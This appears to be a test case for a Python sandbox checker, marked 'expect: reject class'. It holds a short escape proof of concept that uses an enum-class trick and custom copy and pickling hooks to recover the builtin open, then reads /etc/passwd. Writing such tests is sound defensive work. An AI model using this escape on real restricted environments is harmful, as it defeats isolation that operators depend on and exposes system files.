# expect: reject class
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: list(C) iterates an enum's members, but list((C,)) holds C itself:
#   the member-less enum class comes out of the list as a plain value.
# Goal reached: open obtained as a value; read /etc/passwd.
import copy
import enum
import typing


def red(self, proto):
    return (typing.List.copy_with, (("open",),), {"_name": "__builtins__"})


class Base(enum.Enum):
    pass


factory = list((Base,))[0]
E = factory("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red})
opener = copy.deepcopy(copy.deepcopy(E.X))
print(opener("/etc/passwd").read()[:40])
